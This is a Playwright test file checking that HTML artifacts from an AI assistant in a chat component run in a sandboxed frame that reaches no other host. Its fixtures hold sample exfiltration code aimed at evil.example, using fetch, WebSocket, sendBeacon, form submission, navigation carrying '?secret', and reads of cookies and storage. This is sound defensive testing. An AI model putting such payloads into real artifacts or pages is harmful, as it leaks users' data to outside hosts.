import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { FrameLocator, Page } from 'playwright-core';
import { releaseContext, openSite, type Site } from './support/site.ts';

const FOREIGN = 'https://evil.example';

/** Every way in which a page may try to reach other hosts, and where it reports the result. */
const HOSTILE = `<!doctype html>
<link rel="stylesheet" href="${FOREIGN}/a.css">
<link rel="preload" as="image" href="${FOREIGN}/b.png">
<style>@import "${FOREIGN}/c.css"; body { background: url(${FOREIGN}/d.png) }</style>
<img src="${FOREIGN}/e.png"><video src="${FOREIGN}/f.mp4" poster="${FOREIGN}/g.png"></video>
<script src="${FOREIGN}/h.js"></script>
<iframe src="${FOREIGN}/i"></iframe><object data="${FOREIGN}/j"></object>
<form action="${FOREIGN}/k" id="form"><input name="a" value="b"></form>
<p id="out">waiting</p>
<script>
  const said = [];
  const attempt = (name, act) => {
    try {
      const value = act();
      said.push(name + ': ' + (value === null ? 'none' : 'done'));
    } catch (error) {
      said.push(name + ': ' + error.name);
    }
  };
  attempt('cookie', () => document.cookie);
  attempt('storage', () => localStorage.length);
  attempt('parent', () => parent.document.title);
  attempt('top', () => (top.location = '${FOREIGN}/l'));
  attempt('open', () => open('${FOREIGN}/m'));
  attempt('alert', () => alert(1));
  fetch('${FOREIGN}/n').catch(() => undefined);
  try { new WebSocket('wss://evil.example/o').onerror = () => undefined; } catch {}
  try { new EventSource('${FOREIGN}/p').onerror = () => undefined; } catch {}
  try { navigator.sendBeacon('${FOREIGN}/q', 'x'); } catch {}
  try { new Worker('data:text/javascript,fetch("${FOREIGN}/r")'); } catch {}
  document.getElementById('form').submit();
  document.getElementById('out').textContent = self.origin + ' ' + said.join(', ');
</script>`;

describe('an artifact', () => {
  let site: Site;
  before(async () => {
    site = await openSite({ pages: { '/': '<agent-chat endpoint="/agent"></agent-chat>' } });
  });
  after(() => site.close());

  /** A page with an artifact that the user has opened, and the requests that got out of it. */
  async function opened(content: string): Promise<{
    readonly page: Page;
    readonly inside: FrameLocator;
    readonly out: string[];
    /** Resolves when the browser reports that it has stopped a frame from navigating. */
    readonly blocked: Promise<unknown>;
  }> {
    const page = await site.visit('/');
    const out: string[] = [];
    // Requests that a policy stops never get here.
    await page.context().route(`${FOREIGN}/**`, (route) => {
      out.push(route.request().url());
      return route.abort();
    });
    const blocked = page.waitForEvent('console', {
      predicate: (message) => /^Framing|initiate navigation/.test(message.text()),
    });
    page.on('popup', (popup) => out.push(`window ${popup.url()}`));
    page.on('dialog', (dialog) => out.push(`dialog ${dialog.message()}`));
    await page.evaluate(async (html) => {
      await customElements.whenDefined('agent-chat');
      const artifact = { identifier: 'a', title: 'Page', type: 'text/html' as const };
      document.querySelector('agent-chat')!.messages = [
        { role: 'assistant', blocks: [{ type: 'content', content: html, artifact }] },
      ];
    }, content);
    const button = page.locator('agent-chat-artifact button').first();
    await button.waitFor();
    assert.equal(await page.locator('iframe').count(), 0, 'no frame before the reader asks');
    await button.click();
    const frame = page.locator('agent-chat-artifact iframe');
    await frame.waitFor();
    assert.equal(await frame.getAttribute('sandbox'), 'allow-scripts');
    return { page, inside: frame.contentFrame().frameLocator('iframe'), out, blocked };
  }

  it('rule 9: runs in a frame that reaches nobody', async () => {
    const { page, inside, out, blocked } = await opened(HOSTILE);
    const said = inside.locator('#out', { hasText: 'null' });
    await said.waitFor({ state: 'attached' });
    await blocked;
    assert.equal(
      await said.textContent(),
      'null cookie: SecurityError, storage: SecurityError, parent: SecurityError, top: SecurityError, open: none, alert: done',
    );
    assert.deepEqual(out, []);
    assert.equal(page.url(), `${site.origin}/`);
    await releaseContext(page);
  });

  for (const [name, script] of [
    ['by script', `location = '${FOREIGN}/?secret'`],
    [
      'by a refresh',
      `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=${FOREIGN}/?secret' }))`,
    ],
    ['by a link', `Object.assign(document.createElement('a'), { href: '${FOREIGN}/?secret' }).click()`],
    ['over its parent', `parent.location = '${FOREIGN}/?secret'`],
  ] as const) {
    it(`cannot send any data by navigating, ${name}`, async () => {
      const { page, out, blocked } = await opened(
        `<p>x</p><script>parent.postMessage('here', '*'); try { ${script} } catch {}</script>`,
      );
      await blocked;
      assert.deepEqual(out, []);
      assert.equal(page.url(), `${site.origin}/`);
      await releaseContext(page);
    });
  }

  it('does nothing in a page that is opened in any other way', async () => {
    const page = await site.visit('/');
    await page.goto(`${site.origin}/dist/frame.html`);
    await page.evaluate(() => {
      postMessage({ agentChat: 1, type: 'show', html: '<p id="shown">x</p>' }, '*');
      return new Promise((resolve) => {
        addEventListener('message', resolve, { once: true });
        postMessage('behind it', '*');
      });
    });
    assert.equal(await page.locator('#shown').count(), 0);
    await releaseContext(page);
  });
});
